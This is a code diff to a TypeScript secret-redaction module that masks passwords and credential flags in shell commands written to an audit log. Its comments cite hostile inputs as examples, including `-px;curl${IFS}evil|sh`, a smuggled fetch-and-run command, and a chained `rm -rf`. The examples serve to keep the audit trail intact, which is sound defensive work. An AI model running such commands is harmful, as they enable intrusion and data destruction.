@@ -63,7 +63,8 @@ const OPTION_SHAPED = /^(?:--[a-z][a-z0-9-]*(?:=.*)?|-[A-Za-z])$/s;
 /** A bare setting name followed by its value: `aws configure set aws_secret_access_key X`, `git config github.token X`. */
 const SECRET_SETTING = new RegExp(`^[A-Za-z0-9_.:/]*[.:/][A-Za-z0-9_.:/-]*(?:${NAMES})$|^aws_(?:secret_access_key|session_token)$`, 'i');
 /** Flags whose value is `user:password` (curl and alike); the user stays readable. */
-const USER_FLAG = /^(?:-u|-U|--user|--proxy-user|--(?:src-|dest-)?creds)$/;
+const USER_FLAGS = String.raw`(?:-u|-U|--user|--proxy-user|--(?:src-|dest-)?creds)`;
+const USER_FLAG = new RegExp(`^${USER_FLAGS}$`);
 /** docker -u 1000:1000: a user and group id, not a user and password (`admin:123456` is one). */
 const UID_GID = /^\d+:\d+$/;
 
@@ -114,24 +115,60 @@ const LOGIN_BEFORE = new RegExp(
 );
 
 /**
- * A flag's value in a command string, as the shell reads one word: bare text,
- * '…', $'…', "…" (and \"…\" inside JSON text) and escaped characters
- * (`a\ b`), glued together in any order; `-x` after the flag is the next
- * option, not a value, and neither is a redirection from stdin (`< file`,
- * `<<< word`) or a lone operator (`;`, `&&`). A backslash before a line break
- * is a continuation: before anything but a space it glues the word on
- * (`pass\⏎word`), before a space it ends it, and it never starts one (the gap
- * before the value takes it). Each part starts with a character no other part
+ * What may not start a flag's value: `-x` is the next option, and neither a
+ * redirection from stdin (`< file`, `<<< word`) nor a lone operator (`;`,
+ * `&&`) is a value. A backslash before a line break never starts one (the gap
+ * before the value takes it).
+ */
+const VALUE_LEAD = String.raw`(?![-\s]|<<<|<\s|\\\r?\n|[;&|]+(?:\s|$))`;
+/**
+ * A quoted part of a word: $'…' (ANSI-C), '…', "…", or \"…\" inside JSON
+ * text. Double quotes holding a command substitution (`$(…)`, a backtick) are
+ * none: the shell runs it, and a mask over it would hide the command.
+ */
+const QUOTED_PART = String.raw`\$'(?:[^'\\\n]|\\.)*'|'[^'\n]*'|"(?:[^"\\\n$\x60]|\\.|\$(?!\())*"|\\"(?:[^\\\n$\x60]|\\[^"]|\$(?!\())*\\"`;
+/**
+ * A quoted part glued on after the first part of a value (`'x'y"z"`): only
+ * word characters inside. A quote right after a value most often closes a
+ * string the flag sat in (`sh -c "mysql -pX"; rm -rf "dir"`); read as the
+ * start of a part, it carried the mask over the commands up to the next
+ * quote, and hid them from the audit log.
+ */
+const GLUED_QUOTED_PART = String.raw`\$'[^\s"'\\;&|<>(){},:\x60]*'|'[^\s"'\\;&|<>(){},:\x60]*'|"[^\s"'\\;&|<>(){},:\x60]*"|\\"[^\s"'\\;&|<>(){},:\x60]*\\"`;
+/**
+ * An unquoted part: an escaped character (`a\ b`), a continuation inside the
+ * word (`pass\⏎word`: before anything but a space it glues the word on), or
+ * any other character but a space, a quote, a backslash, the `$` of `$'` or
+ * `$(`, a backtick, and `;`, `&` and `|`, which end a word for the shell: a
+ * mask running over them (`-px;curl${IFS}evil|sh`) would hide the commands
+ * after them.
+ */
+const BARE_PART = String.raw`\\[^"\r\n]|\\\r?\n(?=\S)|[^\s"'\\$;&|\x60]|\$(?!['(])`;
+/**
+ * A flag's value in a command string, as the shell reads one word: bare and
+ * quoted parts glued together, quoted ones after the first only as
+ * GLUED_QUOTED_PART allows. Each part starts with a character no other part
  * starts with, so a failed match backtracks little.
  */
-const FLAG_VALUE = String.raw`(?![-\s]|<<<|<\s|\\\r?\n|[;&|]+(?:\s|$))(?:\$'(?:[^'\\\n]|\\.)*'|'[^'\n]*'|"(?:[^"\\\n]|\\.)*"|\\"(?:[^\\\n]|\\[^"])*\\"|\\[^"\r\n]|\\\r?\n(?=\S)|[^\s"'\\$]|\$(?!'))+`;
+const VALUE_WORD = String.raw`(?:${QUOTED_PART}|${BARE_PART})(?:${GLUED_QUOTED_PART}|${BARE_PART})*`;
+const FLAG_VALUE = VALUE_LEAD + VALUE_WORD;
 /**
- * FLAG_VALUE that also takes a JSON-escaped quote left open (`--token
- * \"abc` in JSON text of a command cut short): two ways to read `\"…\"`,
- * so only for patterns that end with the value, where the first reading that
- * matches is the answer; before a look-ahead every reading would be tried.
+ * FLAG_VALUE that may also start with a JSON-escaped quote left open
+ * (`--token \"abc` in JSON text of a command cut short): two ways to read
+ * `\"…\"`, so only for patterns that end with the value, where the first
+ * reading that matches is the answer; before a look-ahead every reading would
+ * be tried.
  */
-const LOOSE_FLAG_VALUE = String.raw`(?![-\s]|<<<|<\s|\\\r?\n|[;&|]+(?:\s|$))(?:\$'(?:[^'\\\n]|\\.)*'|'[^'\n]*'|"(?:[^"\\\n]|\\.)*"|\\"(?:[^\\\n]|\\[^"])*\\"|\\[^"\r\n]|\\\r?\n(?=\S)|[^\s"'\\$]|\$(?!')|\\")+`;
+const LOOSE_FLAG_VALUE = String.raw`${VALUE_LEAD}(?:${QUOTED_PART}|\\"|${BARE_PART})(?:${GLUED_QUOTED_PART}|${BARE_PART})*`;
+/**
+ * Where an option starts: after a space, a quote or a backslash (`\-p` is
+ * `-p` to the shell; a continuation glued to the word before reads so in the
+ * joined copy), or after a JSON escape's letter (`mysql\t-pX` in JSON text).
+ */
+const OPTION_START = String.raw`(?<![^\s"'\\](?<!\\[nrt]))`;
+/** A flag that takes `user:password`, and what joins it to the value in a command string. */
+const USER_FLAG_GAP = String.raw`${USER_FLAGS}(?:\s*|=)`;
+const USER_NAME = String.raw`[^\s:"'\\-][^\s:"'\\]*`;
 /**
  * Spaces between a flag and its value, a backslash line continuation among
  * them (or the backslash of `\t` in JSON text; not that of a JSON-escaped
@@ -205,9 +242,7 @@ function programFlagPattern(kind: 'lower' | 'upper' | 'ports'): string {
     return `${flag}(?<=${WORD_START}(?:${progs})(?![\\w.-])[^\\n;&|]{0,${PROGRAM_REACH}}${flag})${key === flag ? '' : PROGRAM_GAP}`;
   });
   const [f, v] = { lower: ['progFlag', 'progVal'], upper: ['progFlagUp', 'progValUp'], ports: ['portFlag', 'portVal'] }[kind];
-  // After a space, a quote or a backslash (`\-p` is `-p` to the shell; a continuation glued to the word before
-  // reads so in the joined copy).
-  return `(?<${f}>(?<![^\\s"'\\\\])(?:${alts.join('|')}))(?<${v}>${LOOSE_FLAG_VALUE})`;
+  return `(?<${f}>${OPTION_START}(?:${alts.join('|')}))(?<${v}>${LOOSE_FLAG_VALUE})`;
 }
 /** The flag as written is lower (upper) case; the regex matched it ignoring case. */
 const LOWER_FLAG = /-[a-z](?:\s|\\)*$/;
@@ -303,9 +338,12 @@ const PATTERNS = [
   String.raw`(?<envName>(?<![A-Za-z0-9_.-])-{0,2}(?:[A-Za-z][A-Za-z0-9_]{0,63}_(?:KEY|PAT|PASS|PWD|AUTH)|PASS)=)[^\s"'&,;]+`,
   // --password hunter2, aws_secret_access_key X (value as the next word).
   String.raw`(?<flag>${WORD_START}(?:${NOT_SECRET_PREFIX}--?${NAME_CHARS}{0,64}?(?:${NAMES})${NAME_CHARS}{0,64}${NOT_SECRET_SUFFIX}|--?(?:pass|pw|auth)|aws_secret_access_key)${GAP})(?<flagVal>${LOOSE_FLAG_VALUE})`,
-  // curl -u user:password, podman --creds, skopeo --src-creds and --dest-creds, quoted or not. A numeric uid:gid
-  // (docker -u 1000:1000) is not a password (the replacement keeps it); a numeric password after a name is.
-  String.raw`(?<userFlag>(?<![^\s"'\\])(?:-u|-U|--user|--proxy-user|--(?:src-|dest-)?creds)(?:\s*|=)(?:\\?["'])?(?<userName>[^\s:"'-][^\s:"']*):)(?<userPass>[^\s"'\\]+)`,
+  // curl -u user:password, podman --creds, skopeo --src-creds and --dest-creds: the password read as a word, or
+  // up to the closing quote when a quote opened before the user name. A numeric uid:gid (docker -u 1000:1000) is
+  // not a password (the replacement keeps it); a numeric password after a name is.
+  String.raw`(?<userFlag>${OPTION_START}${USER_FLAG_GAP}(?<userName>${USER_NAME}):)(?<userPass>${VALUE_WORD})`,
+  String.raw`(?<userFlagDq>${OPTION_START}${USER_FLAG_GAP}\\?"(?<userNameDq>${USER_NAME}):)(?<userPassDq>(?:[^"\\\n]|\\[^"\r\n])+)`,
+  String.raw`(?<userFlagSq>${OPTION_START}${USER_FLAG_GAP}'(?<userNameSq>${USER_NAME}):)(?<userPassSq>[^'\n]+)`,
   programFlagPattern('lower'),
   programFlagPattern('upper'),
   programFlagPattern('ports'),
@@ -360,7 +398,9 @@ function replacement(match: string, ...rest: unknown[]): string {
   }
   if (g.envName !== undefined) return `${g.envName}${REDACTED}`;
   if (g.flag !== undefined) return `${g.flag}${quoted(REDACTED, g.flagVal!)}`;
-  if (g.userFlag !== undefined) return UID_GID.test(`${g.userName}:${g.userPass}`) ? match : `${g.userFlag}${REDACTED}`;
+  if (g.userFlag !== undefined) return UID_GID.test(`${g.userName}:${g.userPass}`) ? match : `${g.userFlag}${quoted(REDACTED, g.userPass!)}`;
+  if (g.userFlagDq !== undefined) return UID_GID.test(`${g.userNameDq}:${g.userPassDq}`) ? match : `${g.userFlagDq}${REDACTED}`;
+  if (g.userFlagSq !== undefined) return UID_GID.test(`${g.userNameSq}:${g.userPassSq}`) ? match : `${g.userFlagSq}${REDACTED}`;
   if (g.progFlag !== undefined) return LOWER_FLAG.test(g.progFlag) ? `${g.progFlag}${quoted(REDACTED, g.progVal!)}` : match;
   if (g.progFlagUp !== undefined) return UPPER_FLAG.test(g.progFlagUp) ? `${g.progFlagUp}${quoted(REDACTED, g.progValUp!)}` : match;
   if (g.portFlag !== undefined) {
@@ -410,7 +450,7 @@ function joinContinuations(text: string): string {
  * pass\⏎word`). Text with a continuation gets them only over its joined copy.
  */
 const SAME_COMMAND = new Set([
-  ...PATTERNS.filter((p) => p.startsWith('(?<flag>') || p.startsWith('(?<userFlag>')),
+  ...PATTERNS.filter((p) => p.startsWith('(?<flag>') || p.startsWith('(?<userFlag')),
   programFlagPattern('lower'),
   programFlagPattern('upper'),
   programFlagPattern('ports'),
